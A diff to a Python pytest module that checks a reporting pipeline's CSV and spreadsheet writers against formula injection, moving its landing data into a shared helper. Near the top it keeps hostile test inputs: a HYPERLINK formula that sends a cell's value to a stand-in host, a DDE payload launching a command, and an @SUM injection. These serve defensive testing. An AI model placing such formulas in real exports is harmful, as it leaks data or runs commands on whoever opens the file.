@@ -16,31 +16,15 @@ from pathlib import Path
 import openpyxl
 import pyarrow as pa
 import pytest
-from pipeline_support import Scenario, copy_definitions, write_landing
+from reliability_data import small_case
 
 from orchestration.lib.publish.writers import write_csv
 
 LEAKING_CUSTOMER = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
 DDE_NAME = "+cmd|' /C calc'!A0"
 SUM_NAME = "@SUM(1)+1"
-
-LANDING = {
-    # acme's P1 first response in March: answered in 10 and in 45 minutes against 30m ->
-    # 1 of 2 = 50.0 % against a target of 95 -> breached, margin 50 - 95 = -45.0000
-    "tickets/tickets.csv": "\n".join(
-        [
-            "A2,acme-hosting,P1,2026-03-02T10:00:00Z,2026-03-02T10:10:00Z,2026-03-02T12:00:00Z,4",
-            "A3,acme-hosting,P1,2026-03-03T10:00:00Z,2026-03-03T10:45:00Z,2026-03-03T15:00:00Z,2",
-        ]
-    ),
-    "ticket_events/events.csv": "",
-    "probes/probes.csv": "\n".join(
-        f"{service},2026-03-01T00:{minute:02d}:00Z,true,120,fra"
-        for service in ("web-api", "platform-api", "search-api")
-        for minute in range(10)
-    ),
-    "maintenance/maintenance.csv": "",
-}
+# the landing rows (reliability_data.LANDING): acme's P1 first response in March is 1 of 2 =
+# 50.0 % against a target of 95 -> breached, margin 50 - 95 = -45.0000
 
 
 def _hostile_definitions(definitions: Path) -> None:
@@ -62,10 +46,8 @@ def _hostile_definitions(definitions: Path) -> None:
 
 @pytest.fixture(scope="module")
 def reports(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    case = Scenario(tmp_path_factory.mktemp("formulas"))
-    copy_definitions(case.paths.definitions_dir)
+    case = small_case(tmp_path_factory.mktemp("formulas"))
     _hostile_definitions(case.paths.definitions_dir)
-    write_landing(case.paths.landing_dir, LANDING)
     outcome = case.run("2026-03")
     assert outcome.success, outcome.reason
     return case.paths.reports_dir
